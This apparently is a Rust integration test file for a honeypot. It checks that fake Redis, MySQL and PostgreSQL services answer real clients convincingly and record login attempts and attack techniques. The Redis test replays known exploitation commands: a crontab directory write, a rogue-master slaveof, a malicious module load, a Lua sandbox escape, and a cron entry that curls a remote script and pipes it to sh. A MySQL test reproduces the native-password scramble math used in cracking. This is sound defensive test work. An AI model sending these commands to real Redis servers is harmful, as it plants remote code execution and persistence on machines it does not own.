//! The database look-alikes with their real clients: redis-cli, the MariaDB/MySQL client and
//! psql; what each client sees and what the events keep.

use apiary_event::{AuthMethod, Event, Kind, Transport};
use std::process::Command;

use apiary_pot::{Limits, ServiceConfig};

use crate::ssh::{have, run};
use crate::support::{TestPot, service, start};

fn of<'a>(events: &'a [Event], kind: &str) -> Vec<&'a Event> {
    events.iter().filter(|e| e.kind.as_str() == kind).collect()
}

fn with_options(mut s: ServiceConfig, opts: &str) -> ServiceConfig {
    s.options = toml::from_str(opts).unwrap();
    s
}

fn pot(s: ServiceConfig) -> (TestPot, u16) {
    let name = s.name.clone();
    let pot = start(&[s], Limits::default(), "127.0.0.1");
    let port = pot.handle.addr(&name, Transport::Tcp).unwrap().port();
    (pot, port)
}

fn args(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| s.to_string()).collect()
}

fn commands(events: &[Event]) -> Vec<String> {
    of(events, "command.input").iter().map(|e| e.command.as_ref().unwrap().input.clone()).collect()
}

async fn redis_cli(port: u16, extra: &[&str]) -> String {
    let p = port.to_string();
    let mut a = vec!["redis-cli", "-h", "127.0.0.1", "-p", &p];
    a.extend_from_slice(extra);
    let out = run(args(&a), None).await;
    assert!(out.status.success(), "{out:?}");
    String::from_utf8_lossy(&out.stdout).trim_end().to_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redis_cli_runs_the_attack_script_and_everything_is_recorded() {
    if !have(&["redis-cli"]) {
        return;
    }
    let (pot, port) = pot(service("Redis", "redis", &["tcp:0"]));
    assert_eq!(redis_cli(port, &["ping"]).await, "PONG");
    let info = redis_cli(port, &["info", "server"]).await.replace("\r\n", "\n");
    assert!(info.starts_with("# Server\nredis_version:7.0.15\n"), "{info}");
    assert!(info.contains(&format!("tcp_port:{port}\n")));
    // The cron-write and rogue-master playbooks, as the scripts send them.
    assert_eq!(redis_cli(port, &["config", "set", "dir", "/var/spool/cron/crontabs"]).await, "OK");
    assert_eq!(redis_cli(port, &["config", "get", "dbfilename"]).await, "dbfilename\ndump.rdb");
    assert_eq!(redis_cli(port, &["slaveof", "198.51.100.7", "8886"]).await, "OK");
    assert_eq!(
        redis_cli(port, &["module", "load", "/tmp/exp.so"]).await,
        "ERR Error loading the extension. Please check the server logs."
    );
    let eval = redis_cli(
        port,
        &["eval", "local io_l = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io'); return 1", "0"],
    )
    .await;
    assert!(
        eval.starts_with(
            "ERR user_script:1: Script attempted to access nonexistent global variable 'package'"
        ),
        "{eval}"
    );
    assert_eq!(
        redis_cli(port, &["auth", "letmein"]).await,
        "ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?"
    );
    assert_eq!(
        redis_cli(port, &["nosuch", "a"]).await,
        "ERR unknown command 'nosuch', with args beginning with: 'a'"
    );
    assert_eq!(redis_cli(port, &["get"]).await, "ERR wrong number of arguments for 'get' command");
    // One connection, several commands: SET/GET on the session's keyspace.
    let piped = run(
        args(&["redis-cli", "-h", "127.0.0.1", "-p", &port.to_string()]),
        Some("set x1 \"*/1 * * * * curl -fsSL http://198.51.100.7/b.sh | sh\"\nget x1\nkeys *\nsave\n"),
    )
    .await;
    let text = String::from_utf8_lossy(&piped.stdout);
    assert_eq!(
        text, "OK\n*/1 * * * * curl -fsSL http://198.51.100.7/b.sh | sh\nx1\nOK\n",
        "{piped:?}"
    );

    pot.wait_for(&Kind::SESSION_CLOSE, 11).await;
    let events = pot.finish().await;
    let cmds = commands(&events);
    for want in [
        "ping",
        "config set dir /var/spool/cron/crontabs",
        "slaveof 198.51.100.7 8886",
        "module load /tmp/exp.so",
        "set x1 \"*/1 * * * * curl -fsSL http://198.51.100.7/b.sh | sh\"",
        "auth ********",
    ] {
        assert!(cmds.iter().any(|c| c == want), "{want:?} not in {cmds:?}");
    }
    let technique = |input: &str| {
        of(&events, "command.input")
            .into_iter()
            .find(|e| e.command.as_ref().unwrap().input.starts_with(input))
            .and_then(|e| e.fields.get("technique").and_then(|v| v.as_str().map(str::to_owned)))
    };
    assert_eq!(technique("config set dir").as_deref(), Some("file-write"));
    assert_eq!(technique("slaveof").as_deref(), Some("rogue-master"));
    assert_eq!(technique("module").as_deref(), Some("module-load"));
    assert_eq!(technique("eval").as_deref(), Some("lua"));
    assert_eq!(technique("ping"), None);
    let a = of(&events, "auth.attempt")[0].auth.clone().unwrap();
    assert_eq!(
        (a.method, a.password.as_deref(), a.success),
        (AuthMethod::Password, Some("letmein"), false)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redis_with_a_password_says_noauth_until_auth() {
    if !have(&["redis-cli"]) {
        return;
    }
    let (pot, port) =
        pot(with_options(service("Redis", "redis", &["tcp:0"]), r#"password = "s3cret""#));
    assert_eq!(redis_cli(port, &["get", "k"]).await, "NOAUTH Authentication required.");
    let p = port.to_string();
    let wrong = run(
        args(&[
            "redis-cli",
            "-h",
            "127.0.0.1",
            "-p",
            &p,
            "--no-auth-warning",
            "-a",
            "guess",
            "ping",
        ]),
        None,
    )
    .await;
    let text = String::from_utf8_lossy(&wrong.stdout).into_owned()
        + &String::from_utf8_lossy(&wrong.stderr);
    assert!(
        text.contains("WRONGPASS invalid username-password pair or user is disabled."),
        "{text}"
    );
    assert_eq!(redis_cli(port, &["--no-auth-warning", "-a", "s3cret", "ping"]).await, "PONG");
    pot.wait_for(&Kind::SESSION_CLOSE, 3).await;
    let events = pot.finish().await;
    let auths: Vec<_> =
        of(&events, "auth.attempt").iter().map(|e| e.auth.clone().unwrap()).collect();
    assert_eq!(auths.len(), 2);
    assert_eq!((auths[0].password.as_deref(), auths[0].success), (Some("guess"), false));
    assert_eq!((auths[1].password.as_deref(), auths[1].success), (Some("s3cret"), true));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mysql_client_is_denied_like_a_real_server_and_the_scramble_is_kept() {
    if !have(&["mysql"]) {
        return;
    }
    let (pot, port) = pot(service("MySQL", "mysql", &["tcp:0"]));
    let p = port.to_string();
    let out = run(
        args(&[
            "mysql",
            "-h",
            "127.0.0.1",
            "-P",
            &p,
            "-u",
            "root",
            "-ptoor",
            "-D",
            "shop",
            "-e",
            "select 1",
        ]),
        None,
    )
    .await;
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert_eq!(
        String::from_utf8_lossy(&out.stderr).trim_end(),
        "ERROR 1045 (28000): Access denied for user 'root'@'127.0.0.1' (using password: YES)"
    );
    let none =
        run(args(&["mysql", "-h", "127.0.0.1", "-P", &p, "-u", "admin", "-e", "select 1"]), None)
            .await;
    assert!(
        String::from_utf8_lossy(&none.stderr).contains("'admin'@'127.0.0.1' (using password: NO)"),
        "{none:?}"
    );
    pot.wait_for(&Kind::SESSION_CLOSE, 2).await;
    let events = pot.finish().await;
    let a = of(&events, "auth.attempt")[0].auth.clone().unwrap();
    assert_eq!(
        (a.method, a.username.as_deref(), a.success),
        (AuthMethod::Hashed, Some("root"), false)
    );
    assert_eq!(a.extra["plugin"], "caching_sha2_password");
    // The SHA-256 scramble of caching_sha2_password is 32 bytes, the salt 20.
    assert_eq!((a.extra["response"].len(), a.extra["salt"].len()), (64, 40));
    assert_eq!(a.extra["database"], "shop");
    assert_eq!(a.extra["attr.program_name"], "mysql");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mysql_native_scramble_checks_against_the_password() {
    if !have(&["mysql"]) {
        return;
    }
    let (pot, port) = pot(with_options(
        service("MySQL", "mysql", &["tcp:0"]),
        r#"plugin = "mysql_native_password""#,
    ));
    let p = port.to_string();
    let out = run(
        args(&["mysql", "-h", "127.0.0.1", "-P", &p, "-u", "root", "-psecret", "-e", "select 1"]),
        None,
    )
    .await;
    assert!(String::from_utf8_lossy(&out.stderr).contains("ERROR 1045 (28000)"), "{out:?}");
    pot.wait_for(&Kind::SESSION_CLOSE, 1).await;
    let events = pot.finish().await;
    let a = of(&events, "auth.attempt")[0].auth.clone().unwrap();
    // What a cracker does with the record: SHA1(pw) XOR SHA1(salt + SHA1(SHA1(pw))).
    let unhex = |s: &str| {
        (0..s.len())
            .step_by(2)
            .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
            .collect::<Vec<u8>>()
    };
    let salt = unhex(&a.extra["salt"]);
    let response = unhex(&a.extra["response"]);
    let sha1 = |parts: &[&[u8]]| {
        let out = Command::new("sh")
            .arg("-c")
            .arg("sha1sum")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut out = out;
        {
            use std::io::Write as _;
            let mut i = out.stdin.take().unwrap();
            for p in parts {
                i.write_all(p).unwrap();
            }
        }
        let o = out.wait_with_output().unwrap();
        unhex(&String::from_utf8_lossy(&o.stdout)[..40])
    };
    let h1 = sha1(&[b"secret"]);
    let h2 = sha1(&[&h1]);
    let h3 = sha1(&[&salt, &h2]);
    let want: Vec<u8> = h1.iter().zip(&h3).map(|(a, b)| a ^ b).collect();
    assert_eq!(response, want);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn psql_sends_its_password_in_clear_and_gets_28p01() {
    if !have(&["psql"]) {
        return;
    }
    let (pot, port) = pot(service("PostgreSQL", "postgres", &["tcp:0"]));
    let p = port.to_string();
    let out = run(
        args(&[
            "env",
            "PGPASSWORD=Winter2024!",
            "PGCONNECT_TIMEOUT=10",
            "psql",
            "-h",
            "127.0.0.1",
            "-p",
            &p,
            "-U",
            "postgres",
            "-d",
            "billing",
            "-c",
            "select 1",
        ]),
        None,
    )
    .await;
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    assert_eq!(
        String::from_utf8_lossy(&out.stderr).trim_end(),
        format!(
            "psql: error: connection to server at \"127.0.0.1\", port {port} failed: FATAL:  password authentication failed for user \"postgres\""
        )
    );
    pot.wait_for(&Kind::SESSION_CLOSE, 1).await;
    let events = pot.finish().await;
    let a = of(&events, "auth.attempt")[0].auth.clone().unwrap();
    assert_eq!(
        (a.method, a.username.as_deref(), a.password.as_deref()),
        (AuthMethod::Password, Some("postgres"), Some("Winter2024!"))
    );
    assert_eq!(a.extra["database"], "billing");
    assert_eq!(a.extra["param.application_name"], "psql");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn psql_md5_and_scram_exchanges_are_recorded() {
    if !have(&["psql"]) {
        return;
    }
    for (method, key) in [("md5", "response"), ("scram", "client_final")] {
        let (pot, port) = pot(with_options(
            service("PostgreSQL", "postgres", &["tcp:0"]),
            &format!("auth = \"{method}\""),
        ));
        let p = port.to_string();
        let out = run(
            args(&[
                "env",
                "PGPASSWORD=pw",
                "psql",
                "-h",
                "127.0.0.1",
                "-p",
                &p,
                "-U",
                "admin",
                "-c",
                "select 1",
            ]),
            None,
        )
        .await;
        assert!(
            String::from_utf8_lossy(&out.stderr)
                .contains("FATAL:  password authentication failed for user \"admin\""),
            "{method}: {out:?}"
        );
        pot.wait_for(&Kind::SESSION_CLOSE, 1).await;
        let events = pot.finish().await;
        let a = of(&events, "auth.attempt")[0].auth.clone().unwrap();
        assert_eq!(a.method, AuthMethod::Hashed);
        assert!(!a.extra[key].is_empty(), "{method}: {a:?}");
        if method == "md5" {
            assert!(a.extra["response"].starts_with("md5") && a.extra["response"].len() == 35);
        } else {
            assert!(a.extra["client_final"].contains(",p="), "{a:?}");
        }
    }
}
